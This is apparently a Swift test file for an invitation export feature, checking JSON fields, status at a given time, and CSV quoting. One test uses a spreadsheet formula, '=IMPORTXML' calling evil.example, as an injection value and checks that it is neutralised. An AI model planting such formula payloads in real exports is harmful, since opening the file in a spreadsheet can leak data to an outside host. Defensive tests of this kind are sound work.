import AppSiteAssociation
import Foundation
import LandfallJSON
import LandfallLinks
import Testing

/// An invitation as the API's JSON and as a CSV row, and the CSV writer under them.
@Suite struct InvitationExportTests {
    static let now = Date(timeIntervalSince1970: 1_794_995_200)   // 2026-11-18T09:46:40Z
    static let url = "https://daily.example.com/invites/7KQ2M-X4P9T-HCW3R"

    static func invitation() throws -> Invitation {
        Invitation(code: try InviteCode(parsing: "7KQ2M-X4P9T-HCW3R"), batchID: "019a8c3e-7a10-7c4e-9b1f-3f0d2a6b8c11", uses: 3, redeemed: 1,
                   campaign: "beta", createdAt: now.addingTimeInterval(-3600))
    }

    @Test func theJSONHasEveryFieldOfTheSchemaInOrder() throws {
        #expect(JSONWriter.compact.string(for: try Self.invitation().jsonValue(url: Self.url, now: Self.now)) == """
            {"code":"7KQ2M-X4P9T-HCW3R","url":"https://daily.example.com/invites/7KQ2M-X4P9T-HCW3R",\
            "batch":"019a8c3e-7a10-7c4e-9b1f-3f0d2a6b8c11","uses":3,"redeemed":1,"usesLeft":2,"status":"active",\
            "expiresAt":null,"note":null,"campaign":"beta","createdAt":"2026-11-18T08:46:40.000Z","revokedAt":null}
            """)
    }

    @Test func theStatusIsJudgedAtTheTimeGiven() throws {
        var invitation = try Self.invitation()
        invitation.expiresAt = Self.now
        invitation.note = "for Ada"
        let json = invitation.jsonValue(url: nil, now: Self.now)
        #expect(json["status"]?.stringValue == "expired")
        #expect(json["url"] == .null)
        #expect(json["expiresAt"]?.stringValue == "2026-11-18T09:46:40.000Z")
        #expect(json["note"]?.stringValue == "for Ada")
        #expect(invitation.jsonValue(url: nil, now: Self.now.addingTimeInterval(-1))["status"]?.stringValue == "active")
        invitation.revokedAt = Self.now.addingTimeInterval(-0.5)
        #expect(invitation.jsonValue(url: nil, now: Self.now)["status"]?.stringValue == "revoked")
        #expect(invitation.jsonValue(url: nil, now: Self.now)["revokedAt"]?.stringValue == "2026-11-18T09:46:39.500Z")
    }

    @Test func theCSVHasTheHeaderAndOneRowPerInvitation() throws {
        var second = try Self.invitation()
        second.code = try InviteCode(parsing: "22222-33333-44444")
        second.redeemed = 3
        second.note = "for Ada, \"Bob\"\nand Cy"
        second.campaign = nil
        second.expiresAt = Self.now.addingTimeInterval(86_400)
        second.revokedAt = Self.now
        let csv = Invitation.csv([try Self.invitation(), second], url: { $0.code.rawValue.hasPrefix("7") ? Self.url : nil }, now: Self.now)
        #expect(csv == """
            code,url,batch,uses,redeemed,uses_left,status,expires_at,note,campaign,created_at,revoked_at
            7KQ2M-X4P9T-HCW3R,https://daily.example.com/invites/7KQ2M-X4P9T-HCW3R,019a8c3e-7a10-7c4e-9b1f-3f0d2a6b8c11,3,1,2,active,,,beta,2026-11-18T08:46:40.000Z,
            22222-33333-44444,,019a8c3e-7a10-7c4e-9b1f-3f0d2a6b8c11,3,3,0,revoked,2026-11-19T09:46:40.000Z,"for Ada, ""Bob""
            and Cy",,2026-11-18T08:46:40.000Z,2026-11-18T09:46:40.000Z

            """)
        #expect(Invitation.csvHeader.count == (try Self.invitation()).csvRow(url: nil, now: Self.now).count)
    }

    @Test func aNoteThatIsAFormulaIsNeutralized() throws {
        var invitation = try Self.invitation()
        invitation.note = "=IMPORTXML(\"https://evil.example/\",\"//a\")"
        invitation.campaign = "+1"
        let row = Invitation.csv([invitation], url: { _ in nil }, now: Self.now).split(separator: "\n")[1]
        #expect(row.contains(#","'=IMPORTXML(""https://evil.example/"",""//a"")",'+1,"#))
    }

    @Test(arguments: [
        ("plain", "plain"),
        ("", ""),
        ("a,b", "\"a,b\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("two\nlines", "\"two\nlines\""),
        ("cr\rhere", "\"cr\rhere\""),
        (" padded ", "\" padded \""),
        ("=1+2", "'=1+2"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tTAB", "'\tTAB"),
        ("=A1,B1", "\"'=A1,B1\""),
        ("a=b", "a=b"),
        ("'quoted", "'quoted"),
    ])
    func aFieldIsQuotedWhenItMustBeAndNeverRunsAsAFormula(_ value: String, _ written: String) {
        #expect(CSVTable.field(value) == written)
    }

    @Test func aTableIsItsHeaderThenItsRowsEachEndingInANewline() {
        #expect(CSVTable(header: ["a", "b"], rows: [["1", "x,y"], ["2", ""]]).text == "a,b\n1,\"x,y\"\n2,\n")
        #expect(CSVTable(header: ["only"]).text == "only\n")
    }
}
